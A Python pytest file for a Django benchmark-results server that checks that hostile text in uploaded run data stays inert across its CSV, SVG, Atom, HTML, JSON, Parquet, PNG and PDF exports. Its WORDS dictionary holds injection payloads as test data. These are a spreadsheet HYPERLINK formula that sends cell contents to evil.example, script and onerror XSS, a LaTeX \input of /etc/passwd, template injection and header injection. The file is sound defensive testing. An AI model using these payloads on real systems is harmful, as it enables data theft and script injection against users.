"""Hostile words of a document come through the whole server into every file, and are words there.

Each format has its own test with more of such words (`formats/`, `drawing/`). This one asks for every address that
gives a file, so that none is left out.
"""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any
from urllib.parse import quote
from xml.etree import ElementTree

import duckdb
import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.http import HttpResponse
from django.test import Client
from PIL import Image

from benchdb.compare.permalinks import services as permalinks
from benchdb.exports import tasks
from benchdb.exports.formats import FORMATS
from benchdb.exports.models import Export
from benchdb.runs.models import Run
from benchdb.wording.formulas import FORMULA
from tests.runs.distributions.sent import FAST, latencies
from tests.support.comparing.comparisons import grid_results, ids
from tests.support.comparing.responses import LEVELS, results_at
from tests.support.documents import document, environment, series, target, uuid7
from tests.support.mutations import saying
from tests.support.store import store_run

WORDS = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "markup": "]]>\"'><script>alert(1)</script><img src=x onerror=alert(1)>",
    "others": "$\\input{/etc/passwd}$ {{7*7}} %0d%0aX-Evil: 1 [x](javascript:alert(1))",
}
# Addresses of files besides those of the kinds of comparison.
OTHERS = (
    *("/runs/{run}/inside.csv", "/runs/{run}/inside.svg", "/runs/feed.atom", "/runs/all.json", "/runs/all.json?q=x"),
    *("/runs/{run}/results/{last}/latencies.csv", "/runs/{run}/results/{last}/latencies.hlog"),
    *("/runs/{run}/results/{last}/latencies.hgrm", "/campaigns/feed.atom", "/trend/feed.atom?run={run}&test=write"),
    *("/questions/best.csv", "/questions/facts.csv", "/questions/best.json", "/questions/facts.json"),
    *("/oembed?url={link}", "/c/{id}/card.svg", "/c/{id}/card.png"),
    *("/api/v1/runs", "/api/v1/runs/{run}", "/api/v1/runs/{run}/state", "/api/v1/changes"),
)


@pytest.fixture(params=WORDS)
def words(request: Any) -> str:
    return WORDS[request.param]


@pytest.fixture
def runs(owner: User, words: str) -> list[Run]:
    results = grid_results() + [each for level in LEVELS for each in results_at(level, 8)]
    for each in results:
        each["values"] = each["values"][:2]
    results.append(latencies(FAST, FAST))
    parts = {"environment": environment(), "target": target(), "labels": {words[:64]: words}, "series": [series()]}
    sent = saying(document(rounds=2, results=results, visibility="public", **parts), words)
    assert json.dumps(sent).count(json.dumps(words[:60])[1:-1]) > 40
    return [store_run(owner, {**sent, "run_id": str(uuid7())}) for _ in range(2)]


def fetched(client: Client, address: str) -> HttpResponse:
    """A file, made by a worker if it has to be."""
    answer = client.get(address)
    if answer.status_code == 202:
        for export in Export.objects.filter(state=Export.State.WAITING):
            tasks.make(export.pk)
        answer = client.get(address)
    return answer


class Elements(HTMLParser):
    """The elements of HTML with their attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def assert_no_markup(names: Iterator[tuple[str, list[str]]]) -> None:
    for tag, attributes in names:
        assert tag not in ("script", "img", "foreignObject", "iframe"), tag
        assert not [name for name in attributes if name.lower().startswith("on")], tag


def of_lines(body: bytes, delimiter: str) -> None:
    rows = [*csv.reader(StringIO(body.decode(), newline=""), delimiter=delimiter)]
    assert rows
    assert not [
        field for row in rows for field in row if field.lstrip(" ").startswith(FORMULA) and not is_number(field)
    ]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def of_xml(body: bytes) -> None:
    root = ElementTree.fromstring(body)
    assert_no_markup((element.tag.rpartition("}")[2], list(element.attrib)) for element in root.iter())


def of_html(body: bytes) -> None:
    assert_no_markup((tag, [name for name, _ in attributes]) for tag, attributes in Elements(body.decode()).found)


def of_parquet(body: bytes, words: str, folder: Path) -> set[str]:
    """Parquet is data with types, which no spreadsheet takes for a formula: words stay as they are."""
    file = folder / "words.parquet"
    file.write_bytes(body)
    lines = duckdb.sql(f"SELECT * FROM '{file}'").fetchall()
    texts = {field for line in lines for field in line if isinstance(field, str)}
    assert not [text for text in texts if text.startswith("'") and text[1:] in words]
    return texts


def of_pdf(body: bytes) -> None:
    assert not re.search(rb"/(JavaScript|JS|OpenAction|URI|Launch)\b", body)


def check(answer: HttpResponse, words: str, folder: Path) -> None:
    """Read a file as what its type says it is."""
    media, body = answer["Content-Type"].partition(";")[0], answer.content
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert "X-Evil" not in answer.headers
    readers: dict[str, Callable[[], Any]] = {
        "text/csv": lambda: of_lines(body, ","),
        "text/tab-separated-values": lambda: of_lines(body, "\t"),
        "image/svg+xml": lambda: of_xml(body),
        "application/xml": lambda: of_xml(body),
        "application/atom+xml": lambda: of_xml(body),
        "text/html": lambda: of_html(body),
        "application/json": lambda: json.loads(body),
        "application/vnd.apache.parquet": lambda: of_parquet(body, words, folder),
        "image/png": lambda: Image.open(BytesIO(body)).verify(),
        "application/pdf": lambda: of_pdf(body),
    }
    # no browser shows these as a page; their own tests read them
    plain = {"text/plain", "text/markdown", "application/x-tex", "application/openmetrics-text"}
    assert media in readers.keys() | plain
    readers.get(media, bool)()


def queries(runs: list[Run]) -> dict[str, str]:
    """A selection of each kind of comparison."""
    one, both = f"run={runs[0].pk}", ids(runs)
    return {
        "table": both,
        "surface": f"{both}&test=write",
        "trend": f"{one}&test=write",
        "response": f"{both}&test=random_read",
    }


@pytest.mark.parametrize("form", FORMATS)
def test_in_every_format(form: str, client: Client, owner: User, runs: list[Run], words: str, tmp_path: Path) -> None:
    for kind, query in queries(runs).items():
        link = permalinks.share(owner, kind, query, site="http://testserver")[0]
        answer = fetched(client, f"/c/{link.pk}.{form}")
        assert answer.status_code == 200, (kind, answer.content[:200])
        check(answer, words, tmp_path)


def test_at_every_other_address(client: Client, owner: User, runs: list[Run], words: str, tmp_path: Path) -> None:
    link = permalinks.share(owner, "table", ids(runs), site="http://testserver")[0]
    last = runs[0].runstate.result_count - 1
    names = {"run": runs[0].pk, "last": last, "id": link.pk, "link": quote(f"http://testserver/c/{link.pk}/")}
    client.force_login(owner)
    for address in OTHERS:
        answer = fetched(client, address.format(**names))
        assert answer.status_code == 200, address
        check(answer, words, tmp_path)


def test_in_the_file_of_all_public_results(runs: list[Run], words: str, tmp_path: Path) -> None:
    call_command("export_public", str(tmp_path / "all.parquet"), stdout=StringIO())
    assert words in of_parquet((tmp_path / "all.parquet").read_bytes(), words, tmp_path)


def test_in_what_other_sites_show_of_a_page(client: Client, owner: User, runs: list[Run], words: str) -> None:
    """Open Graph, oEmbed and the data of a page for search engines."""
    link = permalinks.share(owner, "table", ids(runs), site="http://testserver")[0]
    for address in (f"/c/{link.pk}/", f"/c/{link.pk}/embed", f"/runs/{runs[0].pk}/"):
        found = Elements(client.get(address).content.decode()).found
        assert not [attrs for tag, attrs in found if tag == "img" and dict(attrs).get("src") == "x"]
        assert not [name for _, attrs in found for name, _ in attrs if name.startswith("on")]
    told = json.loads(client.get("/oembed", {"url": f"http://testserver/c/{link.pk}/"}).content)
    of_frame = Elements(told["html"]).found
    assert [tag for tag, _ in of_frame] == ["iframe"]
    assert "srcdoc" not in dict(of_frame[0][1])
